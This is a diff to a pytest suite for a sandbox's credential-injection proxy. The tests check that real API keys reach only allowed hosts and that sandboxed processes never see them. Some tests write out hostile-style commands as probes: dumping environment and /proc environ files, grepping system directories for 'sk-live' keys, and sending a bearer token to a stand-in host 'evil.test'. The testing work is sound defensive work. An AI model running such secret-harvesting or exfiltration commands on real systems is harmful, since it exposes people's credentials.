@@ -54,7 +54,7 @@ def test_a_header_is_filled_in(box, world, secret):
     placeholder = secret("api-key", VALUE)
     done, seen = run(box, world, [BEARER], "/bin/sh", "-c",
                      "echo $API_KEY; curl -sS -o /dev/null -w '%{http_code}' "
-                     "-H \"Authorization: Bearer $API_KEY\" https://api.test/x")
+                     "-H \"Authorization: Bearer $API_KEY\" https://api.test/quiet")
     assert done.out == f"{placeholder}\n200", done
     assert fields_of(seen[0])["authorization"] == f"Bearer {VALUE}"
     assert "bawn-ph-" not in json.dumps(seen)
@@ -62,7 +62,7 @@ def test_a_header_is_filled_in(box, world, secret):
 
 def test_a_header_that_is_not_there_is_added(box, world, secret):
     secret("api-key", VALUE)
-    done, seen = run(box, world, [BEARER], *CURL, "https://api.test/x")
+    done, seen = run(box, world, [BEARER], *CURL, "https://api.test/quiet")
     assert done.out == "200", done
     assert fields_of(seen[0])["authorization"] == f"Bearer {VALUE}"
 
@@ -73,7 +73,7 @@ def test_the_box_never_sees_the_value(box, world, secret):
     done, _ = run(box, world, [BEARER], "/bin/sh", "-c",
                   "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; "
                   "grep -rs sk-live /run /tmp /etc 2>/dev/null; "
-                  "curl -sS -o /dev/null https://api.test/x")
+                  "curl -sS -o /dev/null https://api.test/quiet")
     assert done.status == 0, done
     assert VALUE not in done.out + done.err
 
@@ -81,17 +81,17 @@ def test_the_box_never_sees_the_value(box, world, secret):
 def test_basic_credentials_query_and_json(box, world, secret):
     placeholder = secret("api-key", VALUE)
     done, seen = run(box, world, [{"secret": "api-key", "basic": "bot"}], *CURL, "-u", f"me:{placeholder}",
-                     "https://api.test/x")
+                     "https://api.test/quiet")
     assert done.out == "200", done
     word = fields_of(seen[0])["authorization"].split()[1]
     assert base64.b64decode(word).decode() == f"bot:{VALUE}"
 
     done, seen = run(box, world, [{"secret": "api-key", "query": "key"}], *CURL,
-                     f"https://api.test/x?a=1&key={placeholder}")
-    assert done.out == "200" and seen[0]["target"] == f"/x?a=1&key={VALUE}", done
+                     f"https://api.test/quiet?a=1&key={placeholder}")
+    assert done.out == "200" and seen[0]["target"] == f"/quiet?a=1&key={VALUE}", done
 
     done, seen = run(box, world, [{"secret": "api-key", "json": "/auth/key"}], *CURL, "--json",
-                     json.dumps({"auth": {"key": placeholder}, "n": 1}), "https://api.test/x")
+                     json.dumps({"auth": {"key": placeholder}, "n": 1}), "https://api.test/quiet")
     assert done.out == "200" and json.loads(seen[0]["body"]) == {"auth": {"key": VALUE}, "n": 1}, done
 
 
@@ -101,15 +101,15 @@ def test_netrc(box, world, secret):
         f.write(f"machine api.test login me password {placeholder}\n")
     box.caller.own(f.name)
     done, seen = run(box, world, [{"secret": "api-key", "basic": "me"}], *CURL, "--netrc-file", "netrc",
-                     "https://api.test/x")
+                     "https://api.test/quiet")
     assert done.out == "200", done
     assert base64.b64decode(fields_of(seen[0])["authorization"].split()[1]).decode() == f"me:{VALUE}"
 
 
 @pytest.mark.parametrize("argv", [
-    ("-H", "X-Other: {}", "https://api.test/x"),
-    ("-H", "Cookie: a={}", "https://api.test/x"),
-    ("-d", "key={}", "https://api.test/x"),
+    ("-H", "X-Other: {}", "https://api.test/quiet"),
+    ("-H", "Cookie: a={}", "https://api.test/quiet"),
+    ("-d", "key={}", "https://api.test/quiet"),
     ("https://api.test/{}",),
     ("https://api.test/?q={}",),
 ], ids=["header", "cookie", "body", "path", "query"])
@@ -129,23 +129,30 @@ def test_another_host_gets_no_value(box, world, secret):
     placeholder = secret("api-key", VALUE)
     mark = world.mark()
     path = box.profile([rule(credentials=[BEARER]), {"name": "evil", "hosts": ["evil.test"], "action": "allow"}])
-    done = box("--profile", path, "--", *CURL, "-H", f"Authorization: Bearer {placeholder}", "http://evil.test/x")
+    done = box("--profile", path, "--", *CURL, "-H", f"Authorization: Bearer {placeholder}", "http://evil.test/quiet")
     assert done.out == "403", done
-    done = box("--profile", path, "--", *CURL, "http://evil.test/x")
+    done = box("--profile", path, "--", *CURL, "http://evil.test/quiet")
     assert done.out == "200", done
     assert VALUE not in json.dumps(mark.log())
+
+
+def test_an_answer_that_repeats_the_value_is_cut(box, world, secret):
+    secret("api-key", VALUE)
+    done, seen = run(box, world, [BEARER], "/usr/bin/curl", "-sS", "https://api.test/echo")
+    assert fields_of(seen[0])["authorization"] == f"Bearer {VALUE}"
+    assert VALUE not in done.out + done.err and "repeats the credential" in done.err, done
 
 
 def test_rotation_and_removal(box, world, secret, caller):
     placeholder = secret("api-key", VALUE)
     assert secret("api-key", "second", verb="rotate") == placeholder
-    done, seen = run(box, world, [BEARER], *CURL, "https://api.test/x")
+    done, seen = run(box, world, [BEARER], *CURL, "https://api.test/quiet")
     assert fields_of(seen[0])["authorization"] == "Bearer second", done
     assert caller(BAWN, "secret", "rm", "api-key").returncode == 0
     done, seen = run(box, world, [BEARER], *CURL, "-H", f"Authorization: Bearer {placeholder}",
-                     "https://api.test/x")
+                     "https://api.test/quiet")
     assert done.out == "403" and seen == [], done
-    done, seen = run(box, world, [BEARER], *CURL, "https://api.test/x")
+    done, seen = run(box, world, [BEARER], *CURL, "https://api.test/quiet")
     assert done.out == "200" and "authorization" not in fields_of(seen[0]), done
 
 
@@ -185,8 +192,8 @@ def test_a_passphrase_seals_them(caller, box, world, work):
     assert done.returncode == 0, done
     path = box.profile([rule(credentials=[BEARER])])
     mark = world.mark()
-    done = box("--profile", path, "--", *CURL, "https://api.test/x", env=env)
+    done = box("--profile", path, "--", *CURL, "https://api.test/quiet", env=env)
     assert done.out != "200" and requests_of(mark) == [], done
-    done = box("--profile", path, "--", *CURL, "https://api.test/x", env={**env, "BAWN_PASSPHRASE_FILE": word})
+    done = box("--profile", path, "--", *CURL, "https://api.test/quiet", env={**env, "BAWN_PASSPHRASE_FILE": word})
     assert done.out == "200", done
     assert fields_of(requests_of(mark)[0])["authorization"] == f"Bearer {VALUE}"
